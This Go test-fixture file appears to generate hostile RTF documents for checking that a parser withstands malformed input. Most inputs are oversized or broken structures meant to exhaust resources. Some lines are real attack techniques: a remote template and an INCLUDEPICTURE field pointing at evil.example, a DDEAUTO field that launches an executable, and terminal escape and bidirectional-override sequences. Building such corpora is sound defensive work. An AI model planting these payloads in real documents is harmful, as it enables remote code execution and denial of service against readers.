package hostile

import "strings"

const richBefore = `{\rtf1\ansi\deff0{\fonttbl{\f0 Times;}}\pard ` + Before + `\par `

// rich are RTF documents.
func rich() []Document {
	whole := func() []byte { return []byte(richBefore + strings.Repeat(`More words.\par `, 2000) + `}`) }
	of := func(rest string) func() []byte { return func() []byte { return []byte(richBefore + rest + `}`) } }
	return append(cut("whole.rtf", whole), []Document{
		{"deep groups.rtf", true, func() []byte { return of(nested(1_000_000, "{", "x", "}"))() }},
		{"groups that are never closed.rtf", true, func() []byte { return of(strings.Repeat(`{\b\i\ul `, 1_000_000))() }},
		{"groups that were never opened.rtf", true, func() []byte { return of(strings.Repeat(`}`, 1_000_000) + " after")() }},
		{"lying binary.rtf", true, of(`{\pict\bin999999999 x}` + " after")},
		{"binary of no size.rtf", true, of(`\bin-5 \bin99999999999999999999 after`)},
		{"an object of 10 MB.rtf", true, func() []byte { return of(`{\object\objemb{\*\objdata ` + strings.Repeat("d0cf11e0", 1<<20) + `}}`)() }},
		{"numbers.rtf", true, of(strings.Repeat(`\fs999999999999999999999\li-999999999\u99999999 ?\'zz\'1b`, 1000))},
		{"a table of a million cells.rtf", true, func() []byte { return of(`\trowd` + strings.Repeat(`\cellx1\intbl x\cell `, 1_000_000/8) + `\row`)() }},
		{"tables in tables.rtf", true, func() []byte {
			return of(strings.Repeat(`{\intbl\itap99999 x\nestcell{\*\nesttableprops\trowd\nestrow}`, 20_000))()
		}},
		{"fields.rtf", true, func() []byte {
			return of(strings.Repeat(`{\field{\*\fldinst INCLUDEPICTURE "https://evil.example/x.png"}{\fldrslt `, 50_000))()
		}},
		{"what would be run.rtf", true, of(`{\*\template https://evil.example/t.dotm}{\field{\*\fldinst DDEAUTO c:\\\\windows\\\\x.exe}{\fldrslt here}}`)},
		{"sequences.rtf", true, of(`\'1b[2J\u27?[31m\u8238?\'9b31m` + Sequence)},
		{"a million notes.rtf", true, func() []byte { return of(strings.Repeat(`x{\super\chftn{\footnote \chftn y}}`, 30_000))() }},
		{"NULs.rtf", false, func() []byte { return []byte(strings.ReplaceAll(richBefore, "e", "e\x00") + "}") }},
	}...)
}
